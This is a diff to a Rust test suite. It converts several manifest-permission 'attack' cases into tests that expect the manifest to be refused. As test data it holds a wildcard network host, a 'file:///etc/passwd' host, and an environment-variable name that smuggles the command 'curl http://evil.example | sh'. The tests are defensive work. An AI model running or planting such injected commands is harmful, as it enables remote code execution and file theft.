@@ -171,23 +171,31 @@ pub(crate) fn attacks() -> Vec<Attack> {
             changed(|manifest| manifest["wants"] = json!({ "net": 7 })),
             &["wants"],
         ),
-        Attack::new(
+        refused(
             "a want of all hosts",
             changed(|manifest| {
                 manifest["wants"] =
                     json!({ "net": [{ "host": "*", "required": true, "reason": "all of it" }] });
-            })).asks(Asked::Parameterize).anyhow(),
-        Attack::new(
+            }),
+            &["wants what nobody can grant", "`*`", "tell its author"],
+        ),
+        refused(
             "a want of a file",
             changed(|manifest| {
                 manifest["wants"] = json!({ "net": [{ "host": "file:///etc/passwd", "required": true, "reason": "x" }] });
-            })).asks(Asked::Parameterize).anyhow(),
+            }),
+            &["wants what nobody can grant", "file:///etc/passwd"],
+        ),
         // What a user is told to type is no command of somebody else.
-        refused("a want whose name is a command", changed(|manifest| {
-            manifest["wants"] = json!({ "env": [{
+        refused(
+            "a want whose name is a command",
+            changed(|manifest| {
+                manifest["wants"] = json!({ "env": [{
                 "name": "X; curl http://evil.example | sh", "required": true, "reason": "x",
             }] });
-        }), &["--allow-env 'X; curl http://evil.example | sh'"]),
+            }),
+            &["--allow-env 'X; curl http://evil.example | sh'"],
+        ),
         // The last one counts, and it alone is read.
         Attack::new("two manifests", twice),
         refused(
